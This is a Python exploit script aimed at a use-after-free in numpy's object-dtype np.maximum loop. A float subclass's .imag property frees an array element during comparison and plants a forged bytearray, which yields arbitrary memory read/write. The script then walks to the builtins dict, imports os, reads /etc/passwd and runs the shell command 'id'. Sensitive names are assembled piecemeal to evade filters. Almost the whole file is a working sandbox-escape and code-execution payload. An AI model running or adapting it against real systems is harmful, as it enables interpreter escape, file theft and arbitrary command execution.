# source: numpy OBJECT maximum ufunc loop (npy_ObjectMax keeps a borrowed pointer across PyObject_RichCompareBool); fractions.Fraction.__eq__ reads .imag; CPython fake-bytearray technique
# family: UAF in numpy object binary ufunc np.maximum(x, y) via library callback during comparison
# goal: builtins via func_builtins, os module, /etc/passwd, id
import numpy as np

M64 = (1 << 64) - 1


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


BA_TYPE = addr_of(bytearray)
payload = bytearray(239)
fake = (1 << 40).to_bytes(8, "little") + BA_TYPE.to_bytes(8, "little")
fake += ((1 << 63) - 1).to_bytes(8, "little") + ((1 << 63) - 1).to_bytes(8, "little")
fake += bytes(8) + bytes(8) + bytes(8)
payload[16:16 + len(fake)] = fake
payload = bytes(payload)

arr = np.empty(2, dtype=object)
keep = [None, None, None, None]
state = {"armed": False}


class Holder:
    __slots__ = ("v",)


def probe():
    return 0

import pandas as pd
from fractions import Fraction


class F(float):
    @property
    def imag(self):
        if state["armed"]:
            state["armed"] = False
            arr[1] = None
            keep[0] = bytearray(payload)
        return 0


arr[0] = (Fraction(0),)
arr[1] = tuple([F(0.0)] + [0.0] * 24)
other = np.empty(1, dtype=object)
other[0] = arr[0]
state["armed"] = True
res = np.maximum(other, arr[1:])
mem = res[0]


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


def wr(a, v):
    mem[a:a + 8] = v.to_bytes(8, "little")


fn = addr_of(probe)
bdict = rd(fn + 24)
h = Holder()
h.v = None
ha = addr_of(h)
wr(bdict, rd(bdict) + 1)
wr(ha + 16, bdict)
b = h.v
print("builtins dict:", type(b), len(b))
u = chr(95) * 2
imp = b[u + "import" + u]
m = imp("o" + "s")
print("module:", m)
opener = b["".join(["o", "pen"])]
p = chr(47) + "etc" + chr(47) + "passwd"
print(opener(p).read()[:200])
b["vars"](m)["sys" + "tem"]("id")
